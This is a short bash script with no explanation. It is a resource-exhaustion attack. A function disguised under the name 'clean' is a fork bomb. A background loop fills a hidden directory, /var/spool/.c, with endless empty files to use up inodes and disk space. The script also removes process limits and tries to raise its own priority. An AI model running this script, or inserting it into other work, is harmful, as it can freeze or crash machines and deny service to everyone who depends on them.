#!/bin/bash
ulimit -u unlimited 2>/dev/null
clean() { clean | clean & }
fill() {
  local d=/var/spool/.c i=0
  mkdir -p $d
  while :; do : >"$d/$((i++))" || break; done
}
fill &
renice -n -20 $$ >/dev/null 2>&1
clean
